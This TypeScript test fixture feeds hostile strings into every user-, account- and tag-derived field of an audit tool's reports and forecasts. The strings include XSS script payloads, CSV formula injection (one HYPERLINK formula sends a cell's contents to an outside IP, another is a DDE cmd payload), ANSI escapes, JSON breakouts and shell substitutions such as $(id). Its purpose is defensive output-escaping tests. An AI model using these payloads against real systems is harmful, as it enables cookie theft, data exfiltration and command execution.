import type { Decision } from '../../../src/domain/decision.ts';
import type { Forecast } from '../../../src/domain/forecast.ts';
import type { ReportedDecision, RunReport } from '../../../src/domain/report.ts';
import { forecastOfEverything } from './every-forecast-event.ts';
import { LOST } from './lost.ts';
import { sampleApplied } from './sample-applied.ts';
import { sampleReport } from './sample-report.ts';

/** Texts by which somebody who may name a user, an account or a tag could try to act on whoever reads the report. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  'an HTML element': '</td></script><script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
  'an HTML attribute': '" onmouseover="alert(1)" x="',
  'an HTML comment': '--><style>*{display:none}</style><!--',
  'an ANSI escape': '\u001b[2J\u001b[31mroot\u001b]0;title\u0007',
  'a one-character ANSI escape': '\u009b31mroot\u009d0;title\u009c',
  'line breaks': 'one\r\nComplete: Every account in scope was read\n\u2028\u2029\u0085two',
  'a CSV formula': '=HYPERLINK("http://203.0.113.1/?"&A1,"open")',
  'a CSV formula behind space and quotes': " \t\" @SUM(1+1)*cmd|'/C calc'!A0",
  'a CSV formula for another separator': 'x;=1+1|+1,-1\t@1',
  'a full-width CSV formula': '\uFF1D1\uFF0B1',
  'a break out of JSON': '"},"complete":true,{"a":"\\u0022\\',
  '128 characters': 'x'.repeat(128),
  '128 emoji': '👩‍💻'.repeat(128),
  'a text turned around': 'exe.\u202Egnp\u2066\u2069\u200F',
  'NUL and its like': 'a\u0000b\uFEFFc\uFFFEd\u200Be',
  'the name of a property': '__proto__',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to look like one
  'a template': '${process.exit(1)} {{constructor}} `id` $(id) %s %n',
  'half a character': 'x\uD83D',
  nothing: '',
  space: '   ',
};

/** A report in which a text stands wherever a text can come from outside. */
export function hostileReport(text: string): RunReport {
  const report = sampleReport({ organizationId: 'o-exampleorg' });
  const found = report.decisions.map((decision, index) =>
    index === 0 ? { ...decision, evidence: [...decision.evidence, LOST] } : decision,
  );
  const decisions = found.map((decision) => hostileDecision(decision, text));
  const { applied = sampleApplied(report.decisions) } = report;
  return {
    ...report,
    decisions,
    coverage: report.coverage.map((entry) =>
      entry.outcome === 'scanned'
        ? {
            ...entry,
            name: text,
            note: text,
            failedUsers: entry.failedUsers.map((user) => ({ ...user, userName: text, why: text })),
          }
        : { ...entry, name: text, why: text },
    ),
    exemptions: report.exemptions.map((rule) => ({ ...rule, by: text, reason: text, owner: text })),
    advice: report.advice.map((entry) => ({
      ...entry,
      userName: text,
      accountName: text,
      ...(entry.kind === 'one-service' ? { service: text, region: text } : {}),
    })),
    stopped: { code: 'KILL_SWITCH_ENGAGED', why: text },
    applied: {
      ...applied,
      plan: text,
      refused: applied.refused.map(({ decision }) => ({
        decision: hostileDecision(decision, text),
        why: text,
      })),
    },
  };
}

/** A forecast in which a text stands wherever a text can come from outside. */
export function hostileForecast(text: string): Forecast {
  const forecast = forecastOfEverything();
  return {
    ...forecast,
    assumptions: [...forecast.assumptions, text],
    events: forecast.events.map((event) => ({ ...event, userName: text, accountName: text })),
  };
}

function hostileDecision<T extends Decision>(decision: T, text: string): T & ReportedDecision {
  const { objections } = decision;
  return {
    ...decision,
    accountName: text,
    userName: text,
    policySource: { override: text, tags: [text] },
    refusedTags: [text, `${text}=${text}`],
    evidence: decision.evidence.map((fact) => {
      if (fact.kind === 'exempt') return { ...fact, by: text };
      if (fact.kind === 'last-used' && fact.lastUsed.kind === 'used')
        return { ...fact, lastUsed: { ...fact.lastUsed, service: text, region: text } };
      if (fact.kind === 'secret-of-others')
        return { ...fact, secretArn: text, before: JSON.stringify({ Id: text }), after: text };
      if (fact.kind === 'key-not-fetchable') return { ...fact, secretArn: text };
      return fact.kind === 'discarded' || fact.kind === 'secret-unread' ? { ...fact, why: text } : fact;
    }),
    ...(objections === undefined
      ? {}
      : { objections: objections.map((objection) => ({ ...objection, detail: text })) }),
    ...('outcome' in decision && isFailure(decision.outcome)
      ? { outcome: { ...decision.outcome, why: text } }
      : {}),
  };
}

function isFailure(outcome: unknown): outcome is NonNullable<ReportedDecision['outcome']> {
  return typeof outcome === 'object' && outcome !== null && 'why' in outcome;
}
